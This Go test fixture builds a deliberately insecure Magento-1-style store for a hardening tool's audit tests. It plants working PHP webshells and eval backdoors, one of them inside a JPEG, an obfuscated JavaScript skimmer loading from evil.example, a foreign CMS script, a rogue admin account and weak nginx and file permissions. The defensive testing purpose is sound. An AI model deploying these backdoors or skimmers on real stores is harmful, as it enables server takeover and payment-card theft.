// Package m1store builds a deliberately weak Magento-1-shaped store for the
// hardening tests: a generated tree (not Magento or OpenMage code) with the
// files attackers look for and malware samples written by the test, served
// by real nginx (the classic `location ~ \.php$` handler, no deny rules)
// and php-fpm (no limit_extensions), with a MariaDB database holding an
// injected skimmer in design/head/includes, a foreign script in a CMS block
// and a rogue admin user. Everything listens on loopback or a unix socket
// and is stopped when the test ends.
package m1store

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mageflow/mageflow/internal/host/webstack"
	"github.com/mageflow/mageflow/internal/m1/m1audit/m1test"
)

// Names the fixture serves.
const (
	ServerName  = "shop.m1.test"
	StagingName = "staging.shop.m1.test"
	// PHPUser runs the pool: a real unprivileged user, so writability and
	// ownership are judged as on a production host.
	PHPUser  = "www-data"
	PHPGroup = "www-data"
	// Owner is the store owner's admin; RogueAdmin was planted.
	Owner      = "owner"
	RogueAdmin = "support_mgr"
	// SlowPath is a storefront page that takes SlowSeconds to render (to
	// cancel a run while verification waits for it).
	SlowPath    = "/slow/"
	SlowSeconds = 8
	// Skimmer is the injected design/head/includes value (base64 of
	// https://evil.example/skim.js, loaded through atob).
	Skimmer = `<script>var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvc2tpbS5qcw==');var s=document.createElement('script');s.src=u;document.head.appendChild(s);</script>`
	// ForeignScript is the planted CMS block.
	ForeignScript = `<p>Free shipping!</p><script src="https://cdn-jsdelivr.example/gate.php?token=f00"></script>`
)

// Planted are the audit check ids the fixture makes fail (or need a
// person): every one must be reported.
var Planted = []string{
	"m1.files.signature",           // app/code/local/Evil/Cache.php, media/wysiwyg/.cache.php
	"m1.files.php_in_image",        // media/catalog/product/c/a/cat.jpg
	"m1.files.php_in_static",       // media/wysiwyg/.cache.php, skin/error.php
	"m1.files.downloader",          // downloader/
	"m1.files.vcs",                 // .git/
	"m1.files.world_writable",      // skin/ 0777
	"m1.files.php_writable",        // skin/, app/etc writable by the PHP user
	"m1.files.code_owner",          // app/code/local owned by the PHP user
	"m1.fpm.limit_extensions",      // unset
	"m1.config.admin_frontname",    // "admin"
	"m1.nginx.staging_auth",        // staging vhost without auth
	"m1.ssh.sshd_denies_php_user",  // sshd lets www-data in
	"m1.db.config_scripts",         // skimmer in design/head/includes
	"m1.db.cms_content",            // foreign gate.php script
	"m1.db.admin_users",            // rogue admin
	"m1.db.extensions_compat_mode", // 1
	"m1.db.allow_symlink",          // 1
	"m1.db.use_form_key",           // 0
}

// Fixable are the audit ids --apply must turn into pass/fixed.
var Fixable = []string{
	"m1.fpm.limit_extensions", "m1.nginx.staging_auth", "m1.ssh.sshd_denies_php_user",
	"m1.files.world_writable", "m1.files.php_writable", "m1.files.code_owner",
}

// Store is a running fixture.
type Store struct {
	Base string // everything lives below it
	Root string // the Magento root (web root)
	Addr string // nginx, 127.0.0.1:port
	// VhostFile is the operator's server blocks; IncludeDir and
	// HTTPConfDir are where hardening may write.
	VhostFile, IncludeDir, HTTPConfDir string
	NginxArgs                          []string
	Nginx, FPM                         *webstack.Proc
	FPMConf                            string
	FPMArgs                            []string
	DB                                 *m1test.MariaDB
	DBName, DBUser, DBPassword         string
	SSHDConfig, SSHDHostKey, SSHDDrop  string
}

// Start generates the store and starts MariaDB, php-fpm and nginx. It
// fails the test (never skips) when a daemon is missing, naming the package.
func Start(t *testing.T) *Store {
	t.Helper()
	if _, err := user.Lookup(PHPUser); err != nil {
		t.Fatalf("the fixture runs PHP as %s (Debian's web user): %v", PHPUser, err)
	}
	if os.Geteuid() != 0 {
		t.Fatal("the M1 store fixture chowns files to www-data and runs php-fpm as www-data: run the test as root (make test does)")
	}
	base, err := os.MkdirTemp("", "m1store")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	// www-data must traverse to the tree and the database socket.
	must(t, os.Chmod(base, 0o755))
	s := &Store{Base: base, Root: filepath.Join(base, "www"), DBName: "m1shop", DBUser: "m1shop", DBPassword: "db-pass-" + strconv.Itoa(os.Getpid())}

	s.DB = m1test.StartMariaDB(t)
	must(t, os.Chmod(s.DB.Dir, 0o755))
	db := s.DB.CreateStore(t, s.DBName, "", s.DBUser, s.DBPassword)
	now := time.Now().UTC()
	for _, q := range []struct {
		sql  string
		args []any
	}{
		{"INSERT INTO core_config_data (scope, scope_id, path, value) VALUES ('default', 0, 'web/unsecure/base_url', ?)", []any{"http://" + ServerName + "/"}},
		{"INSERT INTO core_config_data (scope, scope_id, path, value) VALUES ('default', 0, 'design/head/includes', ?)", []any{`<link rel="stylesheet" href="{{MEDIA}}styles.css">` + Skimmer}},
		{"INSERT INTO core_config_data (scope, scope_id, path, value) VALUES ('default', 0, 'admin/security/extensions_compatibility_mode', '1')", nil},
		{"INSERT INTO core_config_data (scope, scope_id, path, value) VALUES ('default', 0, 'dev/template/allow_symlink', '1')", nil},
		{"INSERT INTO core_config_data (scope, scope_id, path, value) VALUES ('default', 0, 'admin/security/use_form_key', '0')", nil},
		{"INSERT INTO cms_block (title, identifier, content, creation_time, update_time) VALUES ('Footer promo', 'footer_promo', ?, ?, ?)", []any{ForeignScript, now, now}},
		{"INSERT INTO cms_page (title, identifier, content, creation_time, update_time) VALUES ('Home', 'home', '<h1>Welcome</h1>', ?, ?)", []any{now.AddDate(-3, 0, 0), now.AddDate(-3, 0, 0)}},
		{"INSERT INTO admin_user (firstname, lastname, email, username, password, created, logdate, lognum, is_active) VALUES ('Shop', 'Owner', 'owner@shop.test', ?, 'x:y', ?, ?, 40, 1)", []any{Owner, now.AddDate(-6, 0, 0), now.AddDate(0, 0, -2)}},
		{"INSERT INTO admin_user (firstname, lastname, email, username, password, created, logdate, lognum, is_active) VALUES ('Support', 'Manager', 'support@mail.example', ?, 'x:y', ?, ?, 3, 1)", []any{RogueAdmin, now.AddDate(0, 0, -3), now.AddDate(0, 0, -1)}},
	} {
		if _, err := db.ExecContext(context.Background(), q.sql, q.args...); err != nil {
			t.Fatalf("seed the store database: %v\n%s", err, q.sql)
		}
	}

	s.writeTree(t)

	fpmDir := filepath.Join(base, "fpm")
	pool := webstack.Pool{Name: "m1shop", Dir: fpmDir, User: PHPUser, Group: PHPGroup, SocketGroup: "root", PM: "static", MaxChildren: 4, ProcessControlTimeout: 2 * time.Second}
	s.FPM, err = webstack.StartPHPFPM(t.Context(), pool)
	if err != nil {
		t.Fatalf("start php-fpm (install php8.2-fpm and php8.2-mysql): %v", err)
	}
	t.Cleanup(func() { _ = s.FPM.Stop() })
	s.FPMConf = s.FPM.ConfFile()
	s.FPMArgs = []string{"-R"}

	port, err := webstack.FreePort()
	if err != nil {
		t.Fatal(err)
	}
	s.Addr = "127.0.0.1:" + strconv.Itoa(port)
	s.VhostFile = filepath.Join(base, "sites", "shop.conf")
	s.HTTPConfDir = filepath.Join(base, "conf.d")
	s.IncludeDir = filepath.Join(base, "mageflow")
	for _, d := range []string{filepath.Dir(s.VhostFile), s.HTTPConfDir} {
		must(t, os.MkdirAll(d, 0o755))
	}
	must(t, os.WriteFile(s.VhostFile, []byte(vhostConf(s.Addr, s.Root, pool.SocketPath())), 0o644))
	ngxDir := filepath.Join(base, "nginx")
	s.Nginx, err = webstack.StartNginx(t.Context(), ngxDir, "include "+s.HTTPConfDir+"/*.conf;", "include "+s.VhostFile+";")
	if err != nil {
		t.Fatalf("start nginx (install nginx-light): %v", err)
	}
	t.Cleanup(func() { _ = s.Nginx.Stop() })
	s.NginxArgs = []string{"-p", ngxDir + "/", "-c", filepath.Join(ngxDir, "nginx.conf")}

	s.sshd(t)
	return s
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// BaseURL is the origin verification connects to.
func (s *Store) BaseURL() string { return "http://" + s.Addr }

// writeTree generates the store. Contents are small stand-ins written for
// this test, shaped like Magento 1.9.4.5 where the audit looks.
func (s *Store) writeTree(t *testing.T) {
	t.Helper()
	root := s.Root
	localXML := fmt.Sprintf(`<?xml version="1.0"?>
<config>
    <global>
        <install><date><![CDATA[Tue, 01 Jan 2019 00:00:00 +0000]]></date></install>
        <crypt><key><![CDATA[0123456789abcdef0123456789abcdef]]></key></crypt>
        <disable_local_modules>false</disable_local_modules>
        <resources>
            <db><table_prefix><![CDATA[]]></table_prefix></db>
            <default_setup>
                <connection>
                    <host><![CDATA[%s]]></host>
                    <username><![CDATA[%s]]></username>
                    <password><![CDATA[%s]]></password>
                    <dbname><![CDATA[%s]]></dbname>
                    <active>1</active>
                </connection>
            </default_setup>
        </resources>
        <session_save><![CDATA[files]]></session_save>
    </global>
    <admin>
        <routers>
            <adminhtml>
                <args>
                    <frontName><![CDATA[admin]]></frontName>
                </args>
            </adminhtml>
        </routers>
    </admin>
</config>
`, s.DB.Socket, s.DBUser, s.DBPassword, s.DBName)
	jpegHead := "\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
	files := map[string]string{
		"app/Mage.php": `<?php
final class Mage
{
    public static function getVersionInfo()
    {
        return array(
            'major'     => '1',
            'minor'     => '9',
            'revision'  => '4',
            'patch'     => '5',
            'stability' => '',
            'number'    => '',
        );
    }
    public static function getVersion()
    {
        $i = self::getVersionInfo();
        return trim("{$i['major']}.{$i['minor']}.{$i['revision']}" . ($i['patch'] != '' ? ".{$i['patch']}" : ""));
    }
}
`,
		"app/etc/local.xml":                       localXML,
		"app/etc/applied.patches.list":            "2019-06-25 10:00:00 UTC | SUPEE-11155 | EE_1.14.4.2 | v1 | 1.9.4.2 | n/a\n",
		"app/code/core/Mage/Core/Model/App.php":   "<?php\nclass Mage_Core_Model_App {}\n",
		"app/code/local/Acme/Shop/etc/config.xml": "<?xml version=\"1.0\"?><config><modules><Acme_Shop><version>0.1.0</version></Acme_Shop></modules></config>\n",
		// Malware samples (webshell, backdoor) written by the test.
		"app/code/local/Evil/Cache.php":                "<?php\n// cache warmer\nif (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); }\n",
		"media/wysiwyg/.cache.php":                     "<?php /* FilesMan */ if (isset($_REQUEST['c'])) { system($_REQUEST['c']); }\n",
		"media/catalog/product/c/a/cat.jpg":            jpegHead + "<?php echo 'pwned'; eval($_GET['x']); ?>\xFF\xD9",
		"media/catalog/product/c/a/dog.jpg":            jpegHead + "plain image bytes\xFF\xD9",
		"media/downloadable/files/links/ebook.pdf":     "%PDF-1.4 PAID EBOOK",
		"media/customer/upload.txt":                    "PRIVATE",
		"skin/error.php":                               "<?php echo 'backdoor ' . php_uname();\n",
		"skin/frontend/default/default/css/styles.css": "body{font-family:sans-serif}\n",
		"js/varien/js.js":                              "var Varien={};\n",
		"js/prototype/prototype.js":                    "var Prototype={Version:'1.7'};\n",
		"errors/local.xml":                             "<?xml version=\"1.0\"?><config><report><action>print</action></report></config>\n",
		"errors/report.php":                            "<?php echo 'error report';\n",
		"shell/indexer.php":                            "<?php echo 'indexer';\n",
		"cron.php":                                     "<?php echo 'cron';\n",
		"cron.sh":                                      "#!/bin/sh\nphp cron.php\n",
		"install.php":                                  "<?php echo 'installer';\n",
		"api.php":                                      "<?php echo 'api';\n",
		"RELEASE_NOTES.txt":                            "==== 1.9.4.5 ====\nSUPEE-11155\n",
		"dev/tests/functional/README":                  "functional tests\n",
		"downloader/index.php":                         "<?php echo 'Magento Connect Manager';\n",
		"downloader/connect.cfg":                       "::ConnectConfig::v::1.0::\n",
		"var/connect/.keep":                            "",
		"var/log/system.log":                           "2024-01-01T00:00:00+00:00 DEBUG (7): secret log line\n",
		"var/export/customers.csv":                     "email\nalice@example.com\n",
		"var/cache/mage--0/x":                          "cached",
		".git/config":                                  "[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
		".git/HEAD":                                    "ref: refs/heads/master\n",
		"get.php":                                      "<?php\n// media fallback\nheader('Content-Type: text/plain');\necho 'get.php';\n",
		"index.php":                                    strings.Replace(indexPHP, "sleep(SLOW)", fmt.Sprintf("sleep(%d)", SlowSeconds), 1),
	}
	for name, body := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(body), 0o644))
	}
	// A writable skin/ (world-writable, as hosting guides "fixing"
	// upload errors leave it), and module code the PHP user owns.
	uid, gid := lookupIDs(t)
	must(t, filepath.Walk(filepath.Join(root, "skin"), func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if fi.IsDir() {
			return os.Chmod(p, 0o777)
		}
		return os.Chmod(p, 0o666)
	}))
	must(t, filepath.Walk(filepath.Join(root, "app/code/local"), func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, uid, gid)
	}))
	// var/ and media/ are the PHP user's, as they should be.
	for _, d := range []string{"var", "media"} {
		must(t, filepath.Walk(filepath.Join(root, d), func(p string, _ os.FileInfo, err error) error {
			if err != nil {
				return err
			}
			return os.Lchown(p, uid, gid)
		}))
	}
}

func lookupIDs(t *testing.T) (int, int) {
	u, err := user.Lookup(PHPUser)
	if err != nil {
		t.Fatal(err)
	}
	uid, _ := strconv.Atoi(u.Uid)
	gid, _ := strconv.Atoi(u.Gid)
	return uid, gid
}

// indexPHP is the store's front controller: a tiny router rendering the
// home, cart and checkout pages with the head includes and CMS blocks from
// the database — so an injected script reaches every page, as in a real
// Magento 1 store.
const indexPHP = `<?php
$uri = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);
if (strpos($uri, '/slow') === 0) { sleep(SLOW); }
$xml = simplexml_load_file(__DIR__ . '/app/etc/local.xml');
$c = $xml->global->resources->default_setup->connection;
$head = ''; $blocks = '';
$db = @mysqli_connect(null, (string)$c->username, (string)$c->password, (string)$c->dbname, 0, (string)$c->host);
if ($db) {
    $r = mysqli_query($db, "SELECT value FROM core_config_data WHERE path = 'design/head/includes' AND scope = 'default'");
    if ($r && ($row = mysqli_fetch_row($r))) { $head = $row[0]; }
    $r = mysqli_query($db, "SELECT content FROM cms_block WHERE is_active = 1");
    while ($r && ($row = mysqli_fetch_row($r))) { $blocks .= $row[0]; }
} else {
    $head = '<!-- db: ' . htmlspecialchars(mysqli_connect_error()) . ' -->';
}
$pages = array('/' => 'Home', '/index.php' => 'Home', '/checkout/cart/' => 'Shopping Cart', '/checkout/onepage/' => 'Checkout', '/slow/' => 'Slow');
if (!isset($pages[$uri])) { http_response_code(404); $title = '404 Not Found'; } else { $title = $pages[$uri]; }
header('Content-Type: text/html; charset=UTF-8');
echo "<!DOCTYPE html><html><head><title>$title</title>", $head,
     "<script src=\"/js/prototype/prototype.js\"></script><script src=\"/js/varien/js.js\"></script></head>",
     "<body><h1>$title</h1>", $blocks, "</body></html>\n";
`

// vhostConf is the operator's nginx config: the classic Magento 1 recipe
// with its well-known weakness (`location ~ \.php$` runs any PHP file,
// uploads included) and a staging copy of the store with no protection.
func vhostConf(listen, root, sock string) string {
	return fmt.Sprintf(`# shop.m1.test — operator's vhost
server {
    listen %[1]s;
    server_name %[2]s www.%[2]s;
    root %[3]s;
    index index.php;

    location / {
        index index.html index.php;
        try_files $uri $uri/ @handler;
        expires 30d;
    }
    location /var/export/ {
        autoindex on;
    }
    location @handler {
        rewrite / /index.php;
    }
    location ~ \.php/ {
        rewrite ^(.*\.php)/ $1 last;
    }
    location ~ \.php$ {
        if (!-e $request_filename) { rewrite / /index.php last; }
        fastcgi_pass unix:%[4]s;
        fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
        fastcgi_param MAGE_RUN_CODE default;
        fastcgi_param MAGE_RUN_TYPE store;
        fastcgi_read_timeout 60s;
        include /etc/nginx/fastcgi_params;
    }
}

# staging copy of the same code, forgotten without basic auth
server {
    listen %[1]s;
    server_name %[5]s;
    root %[3]s;
    index index.php;
    location / {
        try_files $uri $uri/ /index.php$is_args$args;
    }
    location ~ \.php$ {
        fastcgi_pass unix:%[4]s;
        fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
        include /etc/nginx/fastcgi_params;
    }
}
`, listen, ServerName, root, sock, StagingName)
}

// sshd writes a test sshd config (including a drop-in directory) and a
// host key, so `sshd -T`/`sshd -t` judge the PHP user without touching the
// machine's sshd.
func (s *Store) sshd(t *testing.T) {
	t.Helper()
	if _, err := os.Stat("/usr/sbin/sshd"); err != nil {
		t.Fatal("no /usr/sbin/sshd: install openssh-server (make deps)")
	}
	if _, err := os.Stat("/run/sshd"); err != nil {
		must(t, os.MkdirAll("/run/sshd", 0o755))
	}
	dir := filepath.Join(s.Base, "ssh")
	s.SSHDDrop = filepath.Join(dir, "sshd_config.d")
	must(t, os.MkdirAll(s.SSHDDrop, 0o755))
	s.SSHDHostKey = filepath.Join(dir, "host_ed25519")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", s.SSHDHostKey).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen (openssh-client): %v: %s", err, out)
	}
	s.SSHDConfig = filepath.Join(dir, "sshd_config")
	must(t, os.WriteFile(s.SSHDConfig, []byte("Include "+s.SSHDDrop+"/*.conf\nPasswordAuthentication no\n"), 0o644))
}

// Canaries lists verification canaries left under the web root.
func (s *Store) Canaries(t *testing.T) []string {
	t.Helper()
	var out []string
	for _, d := range []string{"media", "skin", "js"} {
		entries, err := os.ReadDir(filepath.Join(s.Root, d))
		if err != nil {
			continue
		}
		for _, e := range entries {
			if strings.HasPrefix(e.Name(), "mageflow-canary-") {
				out = append(out, filepath.Join(s.Root, d, e.Name()))
			}
		}
	}
	return out
}

// Get fetches path from the store with the given Host header.
func (s *Store) Get(t *testing.T, host, path string) (int, string) {
	t.Helper()
	c, err := net.DialTimeout("tcp", s.Addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	fmt.Fprintf(c, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", path, host)
	r := bufio.NewReader(c)
	status, _ := r.ReadString('\n')
	var body strings.Builder
	inBody := false
	for {
		line, err := r.ReadString('\n')
		if inBody {
			body.WriteString(line)
		} else if line == "\r\n" {
			inBody = true
		}
		if err != nil {
			break
		}
	}
	f := strings.Fields(status)
	code := 0
	if len(f) >= 2 {
		code, _ = strconv.Atoi(f[1])
	}
	return code, body.String()
}
